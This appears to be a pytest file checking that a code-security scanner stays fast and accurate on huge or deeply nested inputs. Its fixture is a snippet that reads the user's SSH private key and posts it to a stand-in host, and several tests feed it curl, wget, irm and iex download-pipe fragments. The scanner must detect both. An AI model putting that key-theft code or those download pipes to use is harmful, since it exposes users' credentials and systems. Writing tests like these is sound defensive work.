"""Code and text of shapes that nobody writes by hand: followed all the same, and in no more time than their length asks."""

from __future__ import annotations

import time

import pytest

from checks.security import disguised, flows, lines, secrets
from checks.security.commands import DOWNLOADS
from devforge.adapters.policy import load_policy
from devforge.model.observed import SourceFile, SourceTree
from devforge.model.python_source import parse_python
from devforge.model.submission import Submission

KEY = 'Path.home().joinpath(".ssh", "id_rsa").read_text()'
SENDS = """import requests
from pathlib import Path

key = {key}
requests.post("https://sync.example", data=key)
"""
MOST_SECONDS = 20  # of processor; what grows faster than the file takes hours


def submission(path: str, content: str) -> Submission:
    file = SourceFile(path=path, mode="file", content=content.encode())
    return Submission(id=None, tree=SourceTree({path: file}), policy=load_policy(None))


def rules_of(code: str) -> set[tuple[str, str]]:
    return {(f.rule, f.severity) for f in flows.check(submission("a.py", code), ())}


@pytest.mark.parametrize(
    "key",
    [
        KEY + ".strip()" * 100,
        KEY + ' + ""' * 700,
        "[" * 60 + KEY + "]" * 60,
    ],
    ids=["a chain of calls", "a text of many parts", "lists within lists"],
)
def test_a_secret_is_followed_through_long_expressions(key):
    assert ("credential-theft", "block") in rules_of(SENDS.format(key=key))


def test_a_secret_is_followed_through_a_long_choice():
    choice = "if a == 0:\n    pass\n" + "elif a == 1:\n    pass\n" * 500
    assert ("credential-theft", "block") in rules_of(choice + SENDS.format(key=KEY))


@pytest.mark.parametrize("deep", ["not " * 500 + "a", "-" * 500 + "1", "[" * 190 + "]" * 190])
def test_what_is_nested_too_deeply_to_follow_is_said_and_hides_nothing_else(deep):
    code = f"x = {deep}\n" + SENDS.format(key=KEY)

    assert rules_of(code) == {("unread-code", "person"), ("credential-theft", "block")}


@pytest.mark.parametrize("deep", ["-" * 20_000 + "1", "a" + ".b" * 20_000])
def test_what_is_deeper_than_the_parser_goes_is_said(deep):
    assert parse_python(f"x = {deep}\n".encode()) is None
    assert rules_of(f"x = {deep}\n" + SENDS.format(key=KEY)) == {("unread-code", "person")}
    assert rules_of("x = = 1\n") == set()  # no interpreter reads it either: quality's business


@pytest.mark.parametrize("row", ["curl | ", "curl; ", "irm ", "iex ", "wget " + "x|" * 180])
def test_a_row_of_downloads_is_read_in_the_time_that_its_length_asks(row):
    begun = time.process_time()
    assert DOWNLOADS.search(row * (500_000 // len(row))) is None

    assert time.process_time() - begun < 3  # it was five seconds for each such megabyte


def test_what_memory_has_no_room_for_is_said(monkeypatch):
    monkeypatch.setattr(flows, "_MOST_BYTES", 10)

    assert rules_of(SENDS.format(key=KEY)) == {("unread-code", "person")}


@pytest.mark.parametrize(
    ("check", "path", "content"),
    [
        (disguised.check, "Makefile", "\n" * 1_000_000),
        (disguised.check, "Makefile", " " * 1_000_000),
        (disguised.check, "page.html", "<script " * 20_000),
        (lines.check, "a.py", "curl | " * 10_000),
        (secrets.check, "a.py", "eyJ-" * 250_000),
        (secrets.check, "a.py", "A: -----BEGIN PRIVATE KEY-----\n" * 30_000),
        (secrets.check, ".env", "TOKEN" * 200_000),
        (secrets.check, ".env", "\n" * 1_000_000),
    ],
)
def test_no_text_takes_more_than_its_length(check, path, content):
    before = time.process_time()  # not of the clock: others work beside us
    list(check(submission(path, content)))

    assert time.process_time() - before < MOST_SECONDS


@pytest.mark.parametrize(
    "code",
    [
        "def f(x): return g(x)\ndef g(x): return f(os.environ)\n" * 1_500,
        "".join(f"def f{n}(x):\n    return f{n + 1}(x)\n" for n in range(8_000)),
        "".join(f"a{n} = a{n + 1}\n" for n in range(8_000)) + "a8000 = os.environ\n",
    ],
    ids=["one name for many functions", "a chain of functions", "a chain of names"],
)
def test_no_package_is_followed_for_longer_than_its_size_asks(code):
    before = time.process_time()
    rules_of("import os\n" + code)

    assert time.process_time() - before < MOST_SECONDS
